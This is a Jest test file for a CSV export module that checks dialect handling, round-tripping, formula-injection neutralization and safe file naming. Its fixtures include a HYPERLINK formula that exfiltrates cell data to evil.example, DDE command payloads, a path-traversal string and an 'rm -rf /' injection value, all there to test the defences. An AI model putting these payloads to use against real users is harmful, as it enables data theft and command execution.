import { parse } from 'csv-parse/sync';
import { exportFileName, neutralize, readSpecs, rejectsCsv, writeCsv, type CsvColumn, type Dialect } from '../../../src/transfer/csv';
import { parseDay, parseDecimal, readTable } from '../../../src/transfer/table';
import { exportLabelsFr, LABELS_FR } from '../../../src/transfer/labels-fr';
import { ACTOR_COLUMNS, crlf, utf8 } from './files';

const TEXT_COLUMNS: CsvColumn[] = [
  { name: 'externalId', headerFr: 'Identifiant' },
  { name: 'name', headerFr: 'Nom' },
  { name: 'description', headerFr: 'Description' },
  { name: 'phone', headerFr: 'Téléphone' },
];

// Values that break naive writers: separators of both dialects, quotes, line breaks, accents,
// formulas, a leading quote, numbers as text.
const TRICKY: Record<string, string>[] = [
  { externalId: 'a-1', name: 'Coopérative agricole du Ternois', description: 'Céréales; stockage, « vente »\r\ndeuxième ligne\ntroisième', phone: '+33 3 21 00 00 00' },
  { externalId: 'a-2', name: 'La "Ferme" d’en haut', description: '=HYPERLINK("http://evil.example/?x="&A1,"clic")', phone: '-2' },
  { externalId: 'a-3', name: '@SUM(A1:A9)', description: "'=déjà neutralisé", phone: '-1,5' },
  { externalId: 'a-4', name: '\t=1+1', description: '\r=2+2', phone: '' },
  { externalId: 'a-5', name: 'Œuvre 🌾 ‰ €', description: '-2+3+cmd|\' /C calc\'!A0', phone: "''" },
];

describe('writeCsv round trip', () => {
  it.each<Dialect>(['rfc4180', 'excel-fr'])('readTable(writeCsv(x)) gives x back byte for byte (%s)', (dialect) => {
    const text = writeCsv(TRICKY, TEXT_COLUMNS, dialect);
    const t = readTable(Buffer.from(text, 'utf8'), readSpecs(TEXT_COLUMNS), 'export.csv');
    expect(t.problems).toEqual([]);
    expect(t.separator).toBe(dialect === 'excel-fr' ? ';' : ',');
    expect(t.encoding).toBe(dialect === 'excel-fr' ? 'utf-8-bom' : 'utf-8');
    expect(t.rows.map((r) => r.cells)).toEqual(TRICKY);
    // and writing what was read gives the same bytes
    expect(writeCsv(t.rows.map((r) => r.cells), TEXT_COLUMNS, dialect)).toBe(text);
    // line numbers of the rows account for the line breaks inside the first description
    expect(t.rows.map((r) => r.line)).toEqual([2, 5, 6, 7, 9]);
  });

  it('typed values come back through parseDecimal/parseDay/matchEnum in excel-fr', () => {
    const columns: CsvColumn[] = [
      { name: 'weight', headerFr: 'Poids', type: 'number' },
      { name: 'since', headerFr: 'Depuis', type: 'date' },
      { name: 'sector', headerFr: 'Secteur', type: 'enum', enumLabelsFr: exportLabelsFr(LABELS_FR.Sector) },
    ];
    const rows = [
      { weight: 0.1 + 0.2, since: '2014-03-01', sector: 'CIVIL_SOCIETY' },
      { weight: -1234567.125, since: new Date('2015-09-01T00:00:00Z'), sector: 'ECONOMIC' },
      { weight: 1e-7, since: null, sector: null },
    ];
    const text = writeCsv(rows, columns, 'excel-fr');
    expect(text).toBe('\uFEFFPoids;Depuis;Secteur\r\n0,3;01/03/2014;Société civile\r\n-1234567,125;01/09/2015;Économique\r\n0,0000001;;\r\n');
    const back = readTable(Buffer.from(text), readSpecs(columns), 'f.csv').rows.map((r) => [parseDecimal(r.cells.weight!), parseDay(r.cells.since!), r.cells.sector]);
    expect(back).toEqual([
      [0.3, '2014-03-01', 'Société civile'],
      [-1234567.125, '2015-09-01', 'Économique'],
      [1e-7, null, ''],
    ]);
  });
});

describe('writeCsv dialects', () => {
  const columns: CsvColumn[] = [
    { name: 'id', headerFr: 'Identifiant' },
    { name: 'sector', headerFr: 'Secteur', type: 'enum', enumLabelsFr: exportLabelsFr(LABELS_FR.Sector) },
    { name: 'betweenness', headerFr: 'Intermédiarité', type: 'number' },
    { name: 'operations', headerFr: 'Opérations', type: 'list' },
    { name: 'active', headerFr: 'Actif', type: 'boolean' },
  ];
  const rows = [{ id: 'act_1', sector: 'CIVIL_SOCIETY', betweenness: 0.30000000000000004, operations: ['FOOD_GOVERNANCE', 'MOBILITY'], active: true }];

  it('excel-fr: BOM, ;, CRLF, decimal comma with 15 digits, French headers and labels, lists with |', () => {
    const text = writeCsv(rows, columns, 'excel-fr');
    expect([...Buffer.from(text, 'utf8').subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(text).toBe('\uFEFFIdentifiant;Secteur;Intermédiarité;Opérations;Actif\r\nact_1;Société civile;0,3;FOOD_GOVERNANCE | MOBILITY;oui\r\n');
  });

  it('rfc4180: no BOM, commas, CRLF, codes, exact numbers, lists with ;', () => {
    const text = writeCsv(rows, columns, 'rfc4180');
    expect(text).toBe('id,sector,betweenness,operations,active\r\nact_1,CIVIL_SOCIETY,0.30000000000000004,FOOD_GOVERNANCE;MOBILITY,true\r\n');
    expect(parse(text, { columns: true })).toEqual([{ id: 'act_1', sector: 'CIVIL_SOCIETY', betweenness: '0.30000000000000004', operations: 'FOOD_GOVERNANCE;MOBILITY', active: 'true' }]);
  });

  it('a list given as text is rewritten with | in excel-fr (so that ; stays the separator)', () => {
    expect(writeCsv([{ operations: 'A;B' }], [{ name: 'operations', type: 'list' }], 'excel-fr')).toBe('\uFEFFoperations\r\nA | B\r\n');
  });
});

describe('formula injection (OWASP)', () => {
  it.each(['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', '=HYPERLINK("x")', "'=1", "''+1", '-', '+33 6 12 34 56 78'])('%j is prefixed with a quote', (s) => {
    expect(neutralize(s)).toBe(`'${s}`);
  });

  it.each(['-2', '-1,5', '+3', '-0.25', '1e-7', 'Jean-Marc', 'a=b', "l'Élevage", ''])('%j stays as it is', (s) => expect(neutralize(s)).toBe(s));

  it('neutralizes in both dialects, headers too, and leaves real numbers alone', () => {
    const rows = [{ label: '=cmd|\'/C calc\'!A0', score: -2, note: '@x' }];
    const columns: CsvColumn[] = [{ name: 'label' }, { name: 'score', type: 'number' }, { name: 'note' }, { name: '=header' }];
    for (const dialect of ['rfc4180', 'excel-fr'] as const) {
      // read by an independent parser, as a spreadsheet would see the cells
      const cells: string[][] = parse(writeCsv(rows, columns, dialect), { bom: true, delimiter: dialect === 'excel-fr' ? ';' : ',' });
      expect(cells).toEqual([
        ['label', 'score', 'note', "'=header"],
        ["'=cmd|'/C calc'!A0", '-2', "'@x", ''],
      ]);
    }
  });
});

describe('exportFileName', () => {
  it('names the scope and its day, or all and today', () => {
    expect(exportFileName({ scope: 'FOOD_GOVERNANCE', asOf: '2014-12-31', part: 'nodes', ext: 'csv' })).toBe('tesr-FOOD_GOVERNANCE-2014-12-31-nodes.csv');
    expect(exportFileName({ scope: null, date: '2026-12-01', part: 'actors', ext: 'csv' })).toBe('tesr-all-2026-12-01-actors.csv');
    expect(exportFileName({ part: 'edges', ext: 'csv' })).toBe(`tesr-all-${new Date().toISOString().slice(0, 10)}-edges.csv`);
    expect(exportFileName({ scope: 'cci', asOf: '2014-12-31', date: '2026-12-01', part: 'network', ext: 'gexf' })).toBe('tesr-cci-2014-12-31-network.gexf');
  });

  it('keeps only safe characters', () => {
    expect(exportFileName({ scope: '../../etc/passwd', date: '2026-12-01', part: 'nodes', ext: 'csv' })).toBe('tesr-etc-passwd-2026-12-01-nodes.csv');
    expect(exportFileName({ scope: 'Économie sociale & solidaire', date: '2026-12-01', part: 'nodes', ext: 'csv' })).toBe('tesr-Economie-sociale-solidaire-2026-12-01-nodes.csv');
    expect(exportFileName({ scope: '"; rm -rf /', date: '2026-12-01', part: 'a"b', ext: 'c\r\nsv' })).toMatch(/^tesr-[A-Za-z0-9_.-]+$/);
    expect(exportFileName({ scope: '///', date: '2026-12-01', part: 'nodes', ext: 'csv' })).toBe('tesr-all-2026-12-01-nodes.csv');
  });
});

describe('rejectsCsv', () => {
  const FILE = crlf([
    'identifiant;nom;type;secteur;description',
    'a;Ferme du Clos;Organisation;Robots;"deux',
    'lignes"',
    'b;Bien;Organisation;Économique;',
    'c;Trop;Organisation;Économique;x;y',
    'd;=1+1;Martien;;',
  ]);

  it('writes the bad rows as read, one per line, with line and reason last; the file re-imports', () => {
    const t = readTable(utf8(FILE), ACTOR_COLUMNS, 'asso.csv');
    // what the import's validation adds (the lead's code): unknown labels, empty required cells
    const problems = [
      ...t.problems,
      { line: 2, column: 'sector', value: 'Robots', message: 'unknown sector "Robots"' },
      { line: 6, column: 'kind', value: 'Martien', message: 'unknown kind "Martien"' },
      { line: 6, column: 'sector', value: '', message: 'required' },
      { line: null, column: null, value: null, message: 'about the whole file: not a row' },
    ];
    const columns = ['externalId', 'name', 'kind', 'sector', 'description'];
    const text = rejectsCsv([...t.rows, ...t.rejected], problems, columns, 'excel-fr');
    expect(text.startsWith('\uFEFFexternalId;name;kind;sector;description;line;reason\r\n')).toBe(true);
    const back = readTable(Buffer.from(text), [...ACTOR_COLUMNS, { name: 'line' }, { name: 'reason' }], 'rejects.csv');
    expect(back.problems).toEqual([]);
    expect(back.rows.map((r) => [r.cells.line, r.cells.externalId, r.cells.name, r.cells.sector, r.cells.description, r.cells.reason])).toEqual([
      ['2', 'a', 'Ferme du Clos', 'Robots', 'deux\r\nlignes', 'sector: unknown sector "Robots"'],
      ['5', 'c', 'Trop', 'Économique', 'x', expect.stringMatching(/6 cells but the header has 5/)],
      ['6', 'd', '=1+1', '', '', 'kind: unknown kind "Martien" ; sector: required'],
    ]);
    // the formula a partner typed is neutralized in the rejects file too
    expect(text).toContain(";'=1+1;");
    // without line/reason in the spec, re-importing the fixed rejects file reports them as unknown columns only
    expect(readTable(Buffer.from(text), ACTOR_COLUMNS, 'rejects.csv').unknownColumns).toEqual(['line', 'reason']);
  });
});
